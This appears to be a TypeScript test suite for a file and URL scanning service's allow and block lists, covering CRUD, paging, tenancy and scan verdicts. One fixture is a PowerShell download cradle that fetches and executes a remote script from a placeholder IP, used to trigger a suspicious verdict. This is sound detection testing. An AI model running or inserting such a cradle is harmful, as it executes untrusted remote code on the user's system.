/**
 * Allow/block lists over real HTTP: CRUD for every target, paging, validation, tenancy, and
 * the lists' effect on new scans (files by sha256, URLs by domain, prefix and redirect target).
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { startSink, startVerdict, makeZip, type Running } from './harness.ts';
import type { ObjectReport } from '../src/engine/report.ts';

const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
/** A PowerShell download cradle: YARA calls it suspicious (SUS), not malware. */
const CRADLE = Buffer.from("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\"\r\n");
const sha256 = (b: Buffer) => crypto.createHash('sha256').update(b).digest('hex');

let v: Running;
let parentOrg: number;
let childOrg: number;
let siblingOrg: number;
let childToken: string;
let siblingToken: string;
let viewerToken: string;

before(async () => {
  v = await startVerdict({ clamd: 'off' });
  const svc = v.verdict.service;
  parentOrg = (await v.verdict.store.getOrgByName('default'))!.id;
  childOrg = (await svc.createOrg('lists-child', 'default')).id;
  siblingOrg = (await svc.createOrg('lists-sibling', 'default')).id;
  childToken = (await svc.createToken('lists-child', 'Administrator', 'child-admin')).token;
  siblingToken = (await svc.createToken('lists-sibling', 'Administrator', 'sibling-admin')).token;
  viewerToken = (await svc.createToken('default', 'Viewer', 'viewer')).token;
});

after(async () => {
  await v.close();
});

async function call(method: string, p: string, json?: unknown, token?: string) {
  const res = await v.api(method, p, { json, token });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : undefined };
}

const create = async (path: string, json: unknown, token?: string) => {
  const r = await call('POST', path, json, token);
  assert.equal(r.status, 201, JSON.stringify(r.body));
  return r.body as Record<string, any>;
};

describe('list management', () => {
  const examples: { target: string; field: string; value: string; changed: string }[] = [
    { target: 'email', field: 'address', value: 'phisher@bad.example', changed: 'other@bad.example' },
    { target: 'ip', field: 'ip', value: '203.0.113.9', changed: '2001:db8::/32' },
    { target: 'url', field: 'prefix', value: 'example.com', changed: 'http://hello-world.com/path' },
    { target: 'hash', field: 'sha256', value: 'ab'.repeat(32), changed: 'cd'.repeat(32) },
    { target: 'domain', field: 'domain', value: 'bad.example', changed: 'worse.example' },
  ];
  for (const list of ['blacklist', 'whitelist']) {
    for (const ex of examples) {
      test(`${list}/${ex.target}: create, read, list, change, delete`, async () => {
        const base = `/api/v1/${list}/${ex.target}/`;
        const created = await create(base, { [ex.field]: ex.value, comment: 'this is an example!' });
        assert.equal(typeof created.id, 'number');
        assert.equal(created.comment, 'this is an example!');
        assert.equal(created.owner_organization, parentOrg);
        assert.equal(created[ex.field], ex.value);
        assert.match(created.created_by, /administrator/);
        assert.equal(created.last_updated_by, created.created_by);
        assert.match(created.created_at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}$/);
        if (ex.target === 'url') assert.equal(created.exact, false);
        else assert.equal('exact' in created, false);

        // with and without the trailing slash
        const one = await call('GET', `${base}${created.id}`);
        assert.equal(one.status, 200);
        assert.deepEqual(one.body, created);

        const all = await call('GET', base);
        assert.equal(all.status, 200);
        assert.ok(all.body.count >= 1);
        assert.equal(all.body.previous, null);
        assert.ok(all.body.results.some((r: { id: number }) => r.id === created.id));

        const put = await call('PUT', `${base}${created.id}/`, { [ex.field]: ex.changed, comment: 'this is an example and I modified it\r\n!' });
        assert.equal(put.status, 200, JSON.stringify(put.body));
        assert.equal(put.body[ex.field], ex.changed);
        assert.equal(put.body.comment, 'this is an example and I modified it\r\n!');
        assert.equal(put.body.created_at, created.created_at);
        const again = await call('GET', `${base}${created.id}/`);
        assert.equal(again.body[ex.field], ex.changed);

        const del = await v.api('DELETE', `${base}${created.id}/`);
        assert.equal(del.status, 204);
        assert.equal((await call('GET', `${base}${created.id}/`)).status, 404);
        assert.equal((await v.api('DELETE', `${base}${created.id}/`)).status, 404);
      });
    }
  }

  test('the url lists take an exact flag (whitelist as in the spec, blacklist too)', async () => {
    for (const list of ['whitelist', 'blacklist']) {
      const e = await create(`/api/v1/${list}/url/`, { prefix: 'https://exact.example/login', exact: true });
      assert.equal(e.exact, true);
      const changed = await call('PATCH', `/api/v1/${list}/url/${e.id}/`, { exact: 'false' });
      assert.equal(changed.body.exact, false);
      assert.equal(changed.body.prefix, 'https://exact.example/login');
    }
    const r = await call('POST', '/api/v1/blacklist/hash/', { sha256: 'ef'.repeat(32), exact: true });
    assert.equal(r.status, 400);
    assert.ok(r.body.exact);
  });

  test('form-encoded bodies work as JSON ones do', async () => {
    const res = await v.api('POST', '/api/v1/blacklist/email/', { body: new URLSearchParams({ address: 'form@bad.example', comment: 'form' }), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    assert.equal(res.status, 201);
    assert.equal(((await res.json()) as { address: string }).address, 'form@bad.example');
  });

  test('paging: count, next and previous as full URLs, page_size', async () => {
    const base = '/api/v1/blacklist/domain/';
    const mine = `?owner_organization=${childOrg}`;
    for (let i = 0; i < 5; i++) await create(base, { domain: `page${i}.example`, owner_organization: childOrg });
    const p1 = await call('GET', `${base}${mine}&page_size=2`);
    assert.equal(p1.status, 200);
    assert.equal(p1.body.count, 5);
    assert.equal(p1.body.results.length, 2);
    assert.equal(p1.body.previous, null);
    assert.ok(p1.body.next.startsWith(v.url), p1.body.next);
    const next = new URL(p1.body.next);
    assert.equal(next.searchParams.get('page'), '2');
    assert.equal(next.searchParams.get('page_size'), '2');
    const p2 = await call('GET', next.pathname + next.search);
    assert.deepEqual(p2.body.results.map((r: { domain: string }) => r.domain), ['page2.example', 'page3.example']);
    assert.ok(p2.body.previous.includes('page=1'));
    const p3 = await call('GET', `${base}${mine}&page_size=2&page=3`);
    assert.equal(p3.body.results.length, 1);
    assert.equal(p3.body.next, null);
    for (const bad of ['page=0', 'page_size=1001', 'page=x', 'owner_organization=abc', 'colour=red']) {
      const r = await call('GET', `${base}?${bad}`);
      assert.equal(r.status, 400, bad);
      assert.ok(r.body[bad.split('=')[0]], `${bad}: ${JSON.stringify(r.body)}`);
    }
  });

  test('bad values answer 400 naming the field', async () => {
    const cases: [string, Record<string, unknown>, string][] = [
      ['blacklist/email', { address: 'not-an-email' }, 'address'],
      ['whitelist/email', {}, 'address'],
      ['blacklist/ip', { ip: '300.1.1.1' }, 'ip'],
      ['blacklist/ip', { ip: '2001:db8:::1' }, 'ip'],
      ['whitelist/url', { prefix: 'ftp://files.example/' }, 'prefix'],
      ['whitelist/url', { prefix: 'http://exa mple.com/' }, 'prefix'],
      ['whitelist/url', { prefix: 'example.com', exact: 'maybe' }, 'exact'],
      ['blacklist/hash', { sha256: 'd41d8cd98f00b204e9800998ecf8427e' }, 'sha256'],
      ['blacklist/domain', { domain: 'bad domain.example' }, 'domain'],
      ['blacklist/domain', { domain: 'ok.example', colour: 'red' }, 'colour'],
      ['blacklist/domain', { domain: 'ok.example', owner_organization: 'x' }, 'owner_organization'],
      ['blacklist/domain', { domain: 'ok.example', comment: 'x'.repeat(4001) }, 'comment'],
    ];
    for (const [path, body, field] of cases) {
      const r = await call('POST', `/api/v1/${path}/`, body);
      assert.equal(r.status, 400, `${path} ${JSON.stringify(body)}: ${JSON.stringify(r.body)}`);
      assert.ok(Array.isArray(r.body[field]), `${path} ${JSON.stringify(body)} should name ${field}: ${JSON.stringify(r.body)}`);
    }
    const e = await create('/api/v1/blacklist/ip/', { ip: '198.51.100.0/24' });
    const dup = await call('POST', '/api/v1/blacklist/ip/', { ip: '198.51.100.9/24' });
    assert.equal(dup.status, 400, 'the same range again');
    assert.match(dup.body.ip[0], new RegExp(`entry ${e.id}`));
    const put = await call('PUT', `/api/v1/blacklist/ip/${e.id}/`, { ip: 'nope' });
    assert.equal(put.status, 400);
    assert.ok(put.body.ip);
  });

  test('unknown ids, targets and list types are 404', async () => {
    assert.equal((await call('GET', '/api/v1/blacklist/email/999999/')).status, 404);
    assert.equal((await call('GET', '/api/v1/blacklist/email/abc/')).status, 404);
    assert.equal((await call('GET', '/api/v1/blacklist/phone/')).status, 404);
    assert.equal((await call('PUT', '/api/v1/whitelist/hash/999999/', { comment: 'x' })).status, 404);
    // an entry of one list is not reachable through another
    const e = await create('/api/v1/blacklist/domain/', { domain: 'crosslist.example' });
    assert.equal((await call('GET', `/api/v1/whitelist/domain/${e.id}/`)).status, 404);
    assert.equal((await call('GET', `/api/v1/blacklist/url/${e.id}/`)).status, 404);
  });

  test('tenancy: a parent manages its children\'s lists, a child only its own, siblings never each other\'s', async () => {
    const parentEntry = await create('/api/v1/blacklist/email/', { address: 'tenancy-parent@bad.example' });
    const forChild = await create('/api/v1/blacklist/email/', { address: 'tenancy-for-child@bad.example', owner_organization: childOrg });
    assert.equal(forChild.owner_organization, childOrg);
    const childOwn = await create('/api/v1/blacklist/email/', { address: 'tenancy-child@bad.example' }, childToken);
    assert.equal(childOwn.owner_organization, childOrg);
    assert.match(childOwn.created_by, /child-admin \(organization lists-child\)/);

    const childView = await call('GET', '/api/v1/blacklist/email/?page_size=1000', undefined, childToken);
    const childIds = childView.body.results.map((r: { id: number }) => r.id);
    assert.ok(childIds.includes(forChild.id) && childIds.includes(childOwn.id));
    assert.ok(!childIds.includes(parentEntry.id), 'a child does not see its parent\'s entries');
    assert.equal((await call('GET', `/api/v1/blacklist/email/${parentEntry.id}/`, undefined, childToken)).status, 404);
    assert.equal((await call('DELETE', `/api/v1/blacklist/email/${parentEntry.id}/`, undefined, childToken)).status, 404);
    assert.equal((await call('PUT', `/api/v1/blacklist/email/${parentEntry.id}/`, { comment: 'mine now' }, childToken)).status, 404);

    const parentView = await call('GET', '/api/v1/blacklist/email/?page_size=1000');
    const parentIds = parentView.body.results.map((r: { id: number }) => r.id);
    assert.ok(parentIds.includes(childOwn.id) && parentIds.includes(parentEntry.id));
    const edited = await call('PUT', `/api/v1/blacklist/email/${childOwn.id}/`, { comment: 'reviewed by the parent' });
    assert.equal(edited.status, 200);
    assert.match(edited.body.last_updated_by, /administrator/);
    assert.match(edited.body.created_by, /child-admin/);

    assert.equal((await call('GET', `/api/v1/blacklist/email/${childOwn.id}/`, undefined, siblingToken)).status, 404);
    assert.equal((await call('DELETE', `/api/v1/blacklist/email/${forChild.id}/`, undefined, siblingToken)).status, 404);
    const sibView = await call('GET', '/api/v1/blacklist/email/', undefined, siblingToken);
    assert.equal(sibView.body.count, 0);
    // owner_organization must be an organization the token can use
    for (const [token, org] of [[childToken, parentOrg], [siblingToken, childOrg], [childToken, 999999]] as const) {
      const r = await call('POST', '/api/v1/blacklist/email/', { address: 'x@bad.example', owner_organization: org }, token);
      assert.equal(r.status, 400);
      assert.ok(r.body.owner_organization);
    }
    assert.equal((await call('GET', `/api/v1/blacklist/email/?owner_organization=${parentOrg}`, undefined, childToken)).status, 400);
  });

  test('permissions: a Viewer reads lists but cannot change them', async () => {
    assert.equal((await call('GET', '/api/v1/whitelist/ip/', undefined, viewerToken)).status, 200);
    const r = await call('POST', '/api/v1/whitelist/ip/', { ip: '192.0.2.44' }, viewerToken);
    assert.equal(r.status, 403);
    assert.equal((await call('GET', '/api/v1/whitelist/ip/', undefined, null as unknown as string)).status, 403);
  });
});

describe('lists take effect on new scans', () => {
  const decisionNames = (scan: Record<string, any>) => (scan.decisions as { name: string; reason: string; verdict: string }[]);

  test('a block-listed sha256 makes the scan BLK with a decision naming the entry', async () => {
    const data = Buffer.from(`harmless text ${crypto.randomUUID()}\n`);
    const before = await v.waitForScan(await v.submitFile(data, 'note.txt'));
    assert.equal(before.verdict, 'CLN');
    const e = await create('/api/v1/blacklist/hash/', { sha256: sha256(data), comment: 'known bad' });
    const scan = await v.waitForScan(await v.submitFile(data, 'note.txt'));
    assert.equal(scan.verdict, 'BLK');
    assert.equal(scan.verbose_verdict, 'BLK');
    const d = decisionNames(scan).find((x) => x.name === `Block list entry #${e.id}`);
    assert.ok(d, JSON.stringify(scan.decisions));
    assert.equal(d.verdict, 'BLK');
    assert.match(d.reason, /sha256 of the submitted file/);
    const ev = (scan.evidence as { heuristic: string; data: Record<string, unknown> }[]).find((x) => x.heuristic === 'LIST_BLOCKED');
    assert.equal(ev?.data.entry_id, e.id);

    // deleting the entry lifts the block for the next scan
    await v.api('DELETE', `/api/v1/blacklist/hash/${e.id}/`);
    assert.equal((await v.waitForScan(await v.submitFile(data, 'note.txt'))).verdict, 'CLN');
  });

  test('a block-listed sha256 inside an archive blocks the archive; the child keeps its own verdict', async () => {
    const inner = Buffer.from(`inner ${crypto.randomUUID()}`);
    const e = await create('/api/v1/blacklist/hash/', { sha256: sha256(inner) });
    const scan = await v.waitForScan(await v.submitFile(await makeZip({ 'docs/inner.txt': inner }), 'bundle.zip'));
    assert.equal(scan.verdict, 'BLK');
    assert.match(decisionNames(scan).find((x) => x.name === `Block list entry #${e.id}`)!.reason, /contained object docs\/inner\.txt/);
    assert.equal(scan.children[0].verbose_verdict, 'CLN');
  });

  test('an allow-listed sha256 clears a file YARA finds suspicious', async () => {
    const data = Buffer.concat([CRADLE, Buffer.from(`# ${crypto.randomUUID()}\n`)]);
    const before = await v.waitForScan(await v.submitFile(data, 'run.ps1'));
    assert.equal(before.verdict, 'SUS', JSON.stringify(before.decisions));
    const e = await create('/api/v1/whitelist/hash/', { sha256: sha256(data), comment: 'our admin script' });
    const scan = await v.waitForScan(await v.submitFile(data, 'run.ps1'));
    assert.equal(scan.verdict, 'CLN');
    const d = decisionNames(scan).find((x) => x.name === `Allow list entry #${e.id}`);
    assert.ok(d, JSON.stringify(scan.decisions));
    assert.equal(d.verdict, 'CLN');
    // the YARA finding is still shown as evidence
    assert.ok((scan.evidence as { heuristic: string }[]).some((x) => x.heuristic === 'YARA_SUSPICIOUS'));
  });

  test('an allow-listed EICAR stays MAL unless the organization lets allow lists override signatures', async () => {
    const e = await create('/api/v1/whitelist/hash/', { sha256: sha256(EICAR), owner_organization: childOrg }, childToken);
    const scan = await v.waitForScan(await v.submitFile(EICAR, 'eicar.com', {}, childToken), childToken);
    assert.equal(scan.verdict, 'MAL');
    const refused = decisionNames(scan).find((x) => x.name === `Allow list entry #${e.id} not applied`);
    assert.ok(refused, JSON.stringify(scan.decisions));
    assert.match(refused.reason, /allow_list_overrides_signatures/);

    await v.verdict.lists.setPolicy(childOrg, { allowListOverridesSignatures: true });
    try {
      const cleared = await v.waitForScan(await v.submitFile(EICAR, 'eicar.com', {}, childToken), childToken);
      assert.equal(cleared.verdict, 'CLN');
      assert.ok(decisionNames(cleared).some((x) => x.name === `Allow list entry #${e.id}`));
    } finally {
      await v.verdict.lists.setPolicy(childOrg, { allowListOverridesSignatures: false });
    }
  });

  test('a parent\'s block list applies to its children\'s scans, not the other way round', async () => {
    const data = Buffer.from(`inherited ${crypto.randomUUID()}`);
    const e = await create('/api/v1/blacklist/hash/', { sha256: sha256(data) });
    const childScan = await v.waitForScan(await v.submitFile(data, 'x.txt', {}, childToken), childToken);
    assert.equal(childScan.verdict, 'BLK');
    assert.ok(decisionNames(childScan).some((x) => x.name === `Block list entry #${e.id}`));

    const other = Buffer.from(`child-only ${crypto.randomUUID()}`);
    await create('/api/v1/blacklist/hash/', { sha256: sha256(other) }, childToken);
    assert.equal((await v.waitForScan(await v.submitFile(other, 'y.txt'))).verdict, 'CLN', 'the child\'s list does not apply to the parent');
    assert.equal((await v.waitForScan(await v.submitFile(other, 'y.txt', {}, siblingToken), siblingToken)).verdict, 'CLN', 'nor to a sibling');
  });

  describe('URL scans', () => {
    let site: Awaited<ReturnType<typeof startSink>>;
    let port: number;
    before(async () => {
      site = await startSink((req, _body, res) => {
        if (req.url?.startsWith('/hop')) {
          res.writeHead(302, { location: `http://localhost:${port}/landing` });
          return res.end();
        }
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<html><head><title>hello</title></head><body>hello</body></html>');
      });
      port = Number(new URL(site.url).port);
    });
    after(() => site.close());

    const scanUrl = async (url: string, token?: string) => {
      const r = await call('POST', '/api/v1/urls/', { path: url }, token);
      assert.equal(r.status, 200, JSON.stringify(r.body));
      return v.waitForScan(r.body.scan_id, token);
    };

    test('a block-listed domain blocks the URL, its subdomains count; redirect targets too', async () => {
      // the sibling organization's own list, so other tests' scans are not affected
      const e = await create('/api/v1/blacklist/domain/', { domain: 'localhost' }, siblingToken);
      const direct = await scanUrl(`http://localhost:${port}/page`, siblingToken);
      assert.equal(direct.verdict, 'BLK');
      assert.match(decisionNames(direct).find((x) => x.name === `Block list entry #${e.id}`)!.reason, /domain localhost of the submitted URL/);

      const viaRedirect = await scanUrl(`http://127.0.0.1:${port}/hop`, siblingToken);
      assert.equal(viaRedirect.verdict, 'BLK', JSON.stringify(viaRedirect.decisions));
      assert.match(decisionNames(viaRedirect).find((x) => x.name === `Block list entry #${e.id}`)!.reason, /redirect target/);

      // the same URL for an organization without the entry
      assert.notEqual((await scanUrl(`http://localhost:${port}/page`)).verdict, 'BLK');
    });

    test('a URL prefix blocks the URLs under it only; an allow-listed URL is clean', async () => {
      const e = await create('/api/v1/blacklist/url/', { prefix: `127.0.0.1:${port}/bad` }, childToken);
      const bad = await scanUrl(`http://127.0.0.1:${port}/bad/deeper?x=1`, childToken);
      assert.equal(bad.verdict, 'BLK');
      assert.ok(decisionNames(bad).some((x) => x.name === `Block list entry #${e.id}`));
      assert.notEqual((await scanUrl(`http://127.0.0.1:${port}/good`, childToken)).verdict, 'BLK');

      const a = await create('/api/v1/whitelist/url/', { prefix: `http://127.0.0.1:${port}/trusted`, exact: true }, childToken);
      const trusted = await scanUrl(`http://127.0.0.1:${port}/trusted`, childToken);
      assert.equal(trusted.verdict, 'CLN');
      assert.ok(decisionNames(trusted).some((x) => x.name === `Allow list entry #${a.id}`));
      const notExact = await scanUrl(`http://127.0.0.1:${port}/trusted/more`, childToken);
      assert.ok(!decisionNames(notExact).some((x) => x.name === `Allow list entry #${a.id}`));
    });
  });

  test('email sender address and IP entries match the scan\'s sender columns', async () => {
    const addr = await create('/api/v1/blacklist/email/', { address: 'ceo@spoofed.example' });
    const net = await create('/api/v1/whitelist/ip/', { ip: '2001:db8:5::/48' });
    const id = await v.submitFile(Buffer.from(`mail ${crypto.randomUUID()}`), 'mail.eml');
    await v.waitForScan(id);
    const row = (await v.verdict.store.getScan(id))!;
    const report = { info: { kind: 'file', sha256: row.sha256!, name: 'mail.eml', depth: 0 }, attributes: {}, evidence: [], children: [] } as unknown as ObjectReport;
    const matches = await v.verdict.lists.matches({ ...row, sample_from: '"The CEO" <CEO@Spoofed.example>', sender_ip: '2001:db8:5::25' }, report);
    assert.deepEqual(
      matches.map((m) => [m.entryId, m.subject]).sort(),
      [
        [addr.id, 'sender address ceo@spoofed.example'],
        [net.id, 'sender IP 2001:db8:5::25'],
      ].sort(),
    );
  });
});
